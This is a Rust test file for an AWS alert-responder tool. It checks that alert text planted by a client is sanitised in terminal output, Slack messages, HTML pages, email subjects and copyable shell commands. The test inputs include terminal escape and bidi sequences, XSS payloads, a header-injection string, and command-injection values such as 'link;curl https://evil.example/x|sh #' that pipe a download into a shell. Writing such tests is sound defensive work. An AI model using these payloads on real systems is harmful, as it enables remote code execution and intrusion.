//! Text of an enemy in every place where a log and an account have room for it, and what each reader's program must not do
//! with it. The tests are named after the attacks.

use vpclink_responder::alerts::terminal;
use vpclink_responder::aws::recorded::RecordedAccount;
use vpclink_responder::{alerts, ids};

use std::fs;

use serde_json::Value;
use vpclink_responder::alerts::Message;
use vpclink_responder::incidents::Alert;

use crate::alerts::bodies::{account, document};
use crate::alerts::golden::{explained, unread};

/// An alert in whose path, endpoint, failure text and stage this stands.
fn planted(text: &str) -> Alert {
    let lines = [
        format!("(a) HTTP Method: GET, Resource Path: /{text}"),
        format!("(a) Sending request to https://orders.internal.example:8443/{text}"),
        format!("(a) Execution failed due to a network error communicating with endpoint: {text}"),
        "(a) Method completed with status: 504".to_owned(),
    ];
    let mut alert = explained(document(&lines), &account("no-healthy-target")).alerts.remove(0);
    alert.reason = text.to_owned();
    alert.news.example.subject.source.stage = Some(text.to_owned());
    alert
}

fn message(text: &str) -> Message {
    alerts::message(&planted(text))
}

fn block(text: &str) -> String {
    terminal::block(&planted(text), terminal::Screen { color: false, width: 200 })
}

/// The texts of the chat notification that are shown as markup.
fn markup(text: &str) -> String {
    let chat: Value = serde_json::from_str(&message(text).bodies["https"]).unwrap();
    let steps = chat["content"]["nextSteps"].as_array().unwrap().iter().filter_map(Value::as_str);
    let shown = [&chat["content"]["title"], &chat["content"]["description"]];
    shown.into_iter().filter_map(Value::as_str).chain(steps).collect::<Vec<_>>().join("\n")
}

#[test]
fn terminal_escape() {
    for text in ["\u{1b}[2J\u{1b}[31mowned", "\u{9b}2Jowned", "a\u{8}\u{8}\u{8}b", "a\rb"] {
        let block = block(text);
        assert!(!block.chars().any(|c| c.is_control() && c != '\n'), "{block:?}");
    }
}

#[test]
fn terminal_hyperlink_by_osc_8() {
    let block = block("\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}");
    assert!(!block.contains('\u{1b}') && !block.contains('\u{7}'), "{block:?}");
}

#[test]
fn bidirectional_override_and_invisible_text() {
    let text = "abc\u{202e}txt.exe\u{200b}\u{2066}x";
    let alert = planted(text);
    let hidden =
        |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut bodies: Vec<String> = alerts::message(&alert).bodies.into_values().collect();
    bodies.extend([block(text), alerts::html_page(&[alert])]);
    for body in bodies {
        assert!(!body.chars().any(hidden), "{body:?}");
    }
}

#[test]
fn slack_mention_of_a_channel_or_person() {
    for text in ["<!channel>", "<!here|x>", "<@U012AB3CD>", "<!subteam^S1>"] {
        let markup = markup(text);
        assert!(!markup.contains("<!") && !markup.contains("<@"), "{markup}");
        // Keywords, resources and variables of custom actions are shown too.
        let whole = &message(text).bodies["https"];
        assert!(!whole.contains("<!") && !whole.contains("<@"), "{whole}");
    }
}

#[test]
fn slack_link_in_a_clients_text() {
    let markup = markup("<https://evil.example|log lines> https://evil.example");
    assert!(!markup.contains("<https://evil.example"), "{markup}");
    // Outside of code no address stands as one, which Slack would make a link of.
    let outside: String = markup.split('`').step_by(2).collect();
    assert!(!outside.contains("https://evil.example"), "{outside}");
}

#[test]
fn slack_backticks_and_formats() {
    let markup = markup("`*bold*` _it_ ~gone~ ```");
    for line in markup.lines() {
        assert!(line.matches('`').count().is_multiple_of(2), "{line}");
        assert!(!line.contains("*bold*") || line.contains("`"), "{line}");
    }
}

/// Whatever a client writes around it, no part of the headline has the form of a host.
#[test]
fn bare_host_in_a_clients_path() {
    for path in
        ["a=evil.example/b", "a(evil.example)", "[evil.example](x)", "\"evil.example\"", "/evil.example"]
    {
        let alert = planted(path);
        let message = alerts::message(&alert);
        let email = message.bodies["email"].lines().next().unwrap().to_owned();
        for headline in [message.subject, email] {
            let (route, _) = headline.split_once(" (").unwrap_or((&headline, ""));
            assert!(!route.contains("evil.example"), "{headline}");
        }
    }
}

#[test]
fn html_script_and_attribute() {
    for text in [
        "</pre><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)",
        "<img src=x onerror=alert(1)>",
    ] {
        let page = alerts::html_page(&[planted(text)]);
        assert_eq!(page.matches("<script").count(), 1, "{text}");
        assert!(!page.contains("<img"), "{text}");
        // Whatever of it is in the page is text: no quote ends an attribute, no bracket opens a tag.
        for attack in ["\" onmouseover", "' onfocus", "<script>alert"] {
            assert!(!page.contains(attack), "{text}");
        }
    }
}

#[test]
fn html_policy_forbids_what_is_not_ours() {
    let page = alerts::html_page(&[planted("x")]);
    let policy =
        page.split("Content-Security-Policy\" content=\"").nth(1).unwrap().split('"').next().unwrap();
    assert!(policy.starts_with("default-src 'none'; style-src 'sha256-"), "{policy}");
    assert!(!policy.contains("unsafe"), "{policy}");
}

#[test]
fn subject_line_break_adds_no_header() {
    let subject = message("x\r\nBcc: everybody@example.com\n\nbody").subject;
    assert!(!subject.chars().any(char::is_control), "{subject:?}");
    assert!(subject.chars().count() < 100);
}

#[test]
fn sns_attribute_takes_no_control_character_and_is_never_empty() {
    for text in ["\u{0}\r\n", "", "   ", "\u{200b}"] {
        for (name, value) in message(text).attributes {
            assert!(!value.is_empty() && !value.chars().any(char::is_control), "{name}: {value:?}");
        }
    }
}

/// Every command of an alert.
fn commands(alert: &Alert) -> Vec<String> {
    let machine: Value = serde_json::from_str(&alerts::message(alert).bodies["sqs"]).unwrap();
    let steps = machine["next_steps"].as_array().unwrap();
    let both = steps.iter().flat_map(|step| [&step["command"], &step["verify"]]);
    both.filter_map(Value::as_str).map(str::to_owned).collect()
}

/// The words of the commands of an alert whose log group says this for its stage.
fn words_of_stage(stage: &str) -> Vec<Vec<String>> {
    let lines = [
        "(a) HTTP Method: GET, Resource Path: /orders".to_owned(),
        "(a) Execution failed due to configuration error: There was an internal error while executing your request"
            .to_owned(),
        "(a) Method completed with status: 500".to_owned(),
    ];
    let document = String::from_utf8(document(&lines)).unwrap();
    let alert = unread(document.replace("/prod", &format!("/{stage}")).into_bytes()).alerts.remove(0);
    commands(&alert).iter().map(|command| shlex::split(command).unwrap()).collect()
}

#[test]
fn shell_metacharacters_in_a_command_to_copy() {
    let harmless = words_of_stage("word");
    assert!(harmless.iter().flatten().any(|word| word.contains("word")), "{harmless:#?}");
    for text in ["x;curl evil|sh", "$(id)", "`id`", "'; id; '", "x&&id", "x>y", "a b", "x'y"] {
        // The same words, with this one in its place.
        let expected: Vec<Vec<String>> = harmless
            .iter()
            .map(|words| words.iter().map(|word| word.replace("word", text)).collect())
            .collect();
        assert_eq!(words_of_stage(text), expected, "{text}");
    }
}

/// What the integration of an API may name: a stage variable, a link id, an endpoint.
#[test]
fn stage_variable_that_is_a_command() {
    let name = "link;curl https://evil.example/x|sh #";
    let text = fs::read_to_string("events/stage-variable-dangling.account.json").unwrap();
    let account = RecordedAccount::parse(
        &text.replace("${stageVariables.vpcLinkId}", &format!("${{stageVariables.{name}}}")),
    )
    .unwrap();
    let alerts = explained(fs::read("events/stage-variable-dangling.json").unwrap(), &account).alerts;
    assert_eq!(alerts.len(), 1);
    let commands = commands(&alerts[0]);
    assert!(commands.iter().any(|command| command.contains("curl")), "{commands:#?}");
    for command in commands {
        let words = shlex::split(&command).unwrap();
        assert!(
            !words.iter().any(|word| word.starts_with("evil") || word == "sh" || word == "#"),
            "{command}"
        );
        // Either the name is not there, or it is within one word, and nothing of it stands outside of quotes.
        let bare: String = command.split('\'').step_by(2).collect();
        assert!(!bare.contains([';', '|', '#', '$']), "{command}");
        if command.contains("curl") {
            assert!(words.contains(&format!("op=replace,path=/variables/{name},value=VALUE")), "{command}");
        }
    }
}

/// A check that forgot to quote a name still puts no second command before an engineer, in `vpclink check` neither.
#[test]
fn command_of_a_check_that_was_not_quoted() {
    let mut alert = planted("x");
    let mut spoilt = 0;
    for remedy in alert.judgement.findings.iter_mut().filter_map(|finding| finding.remedy.as_mut()) {
        remedy.command = Some("aws elbv2 describe-listeners; curl evil.example|sh".to_owned());
        remedy.verify.clone_from(&remedy.command);
        spoilt += 1;
    }
    assert!(spoilt > 0);
    let subject = &alert.news.example.subject;
    for text in [
        alerts::check_document(subject, &alert.judgement),
        alerts::check_page("x", &alert.judgement),
        alerts::html_page(std::slice::from_ref(&alert)),
        alerts::machine_body(&alert),
    ] {
        assert!(text.contains("Check that the service runs"), "{text}");
        assert!(!text.contains("curl evil"), "{text}");
    }
}

/// The examples' commands: exactly the words that are meant, whatever a shell makes of the rest.
#[test]
fn every_command_is_words() {
    let mut seen = 0;
    for event in crate::alerts::golden::events() {
        let alerts = explained(fs::read(&event).unwrap(), &crate::alerts::golden::account_of(&event)).alerts;
        for command in alerts.iter().flat_map(commands) {
            let words = shlex::split(&command).unwrap();
            assert!(["aws", "curl", "dig", "openssl", "sam"].contains(&words[0].as_str()), "{command}");
            assert_eq!(
                vpclink_responder::alerts::escape::command(&command).as_deref(),
                Some(command.as_str())
            );
            seen += 1;
        }
    }
    assert!(seen >= 10, "{seen}");
}

#[test]
fn address_of_a_client_as_path_or_id() {
    for path in ["https://evil.example/aws/login", "www.evil.example/login", "evil.example/login"] {
        let mut alert = planted(path);
        alert.news.example.subject.request_id = Some(ids::RequestId::new(path));
        let message = alerts::message(&alert);
        let text = |name: &str| message.bodies[name].clone();
        let chat: Value = serde_json::from_str(&text("https")).unwrap();
        let shown =
            [&chat["content"]["title"], &chat["content"]["description"], &chat["metadata"]["summary"]];
        let mut bodies =
            vec![message.subject.clone(), text("email"), text("sms"), text("default"), block(path)];
        bodies.extend(shown.into_iter().map(|text| text.as_str().unwrap().to_owned()));
        bodies.push(alerts::html_page(&[alert]));
        // Our own link to the log holds the id, encoded.
        let machine: Value = serde_json::from_str(&text("sqs")).unwrap();
        let logs = machine["links"]["logs"].as_str().unwrap();
        for body in bodies.iter().map(|body| body.replace(logs, "")) {
            for live in ["https://evil.example", "://evil.example", "www.evil.example", " /evil.example"] {
                assert!(!body.contains(live), "{live}: {body}");
            }
        }
        // Those two have no evidence, which keeps the dots of host names.
        assert!(!message.subject.contains("evil.example") || path.contains("://"), "{}", message.subject);
    }
}

#[test]
fn invisible_and_refused_characters() {
    let hidden: String = "\u{fffe}\u{ffff}\u{206a}\u{206f}\u{3164}\u{115f}\u{34f}\u{202e}\u{2066}".to_owned();
    let alert = planted(&format!("a{hidden}b"));
    let message = alerts::message(&alert);
    let mut bodies: Vec<String> = message.bodies.into_values().collect();
    bodies.extend(message.attributes.into_values());
    bodies.extend([message.subject, block(&hidden), alerts::html_page(&[alert])]);
    for body in bodies {
        assert!(!body.chars().any(|c| hidden.contains(c)), "{body:?}");
    }
}

#[test]
fn region_of_a_log_chooses_no_host() {
    let mut alert = planted("x");
    alert.news.example.subject.source.region = Some(ids::Region::new("evil.example/#"));
    let machine: Value = serde_json::from_str(&alerts::message(&alert).bodies["sqs"]).unwrap();
    assert_eq!(machine["links"]["logs"], Value::Null);
    assert!(!alerts::message(&alert).bodies["email"].contains("https://evil.example"));
}
